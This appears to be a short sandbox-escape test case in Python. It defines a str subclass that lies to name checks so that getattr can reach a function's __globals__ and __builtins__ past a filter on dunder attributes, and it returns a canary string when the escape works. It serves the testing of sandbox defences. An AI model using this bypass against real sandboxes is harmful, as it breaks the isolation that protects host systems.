"""Class: shadowing. Source: own find. Escape: a function's globals, and the builtins in them. The name of an attribute is a
subclass of str that says it is an ordinary one, to whoever asks it by its methods."""


class Name(str):
    def startswith(self, *parts):
        return False

    def endswith(self, *parts):
        return False

    def __str__(self):
        return "title"

    def __getitem__(self, index):
        return "title"[index]


def attack(model, tokenizer, address):
    names = [Name("__globals__"), Name("__code__"), Name("__closure__"), Name("__dict__")]
    for way in (getattr, lambda value, name: getattr(value, name, None)):
        for name in names:
            try:
                found = way(attack, name)
                if "__builtins__" in found or "__builtins__" in dir(found):
                    return "canary-" + "5d1f"
            except Exception:
                pass
    return None
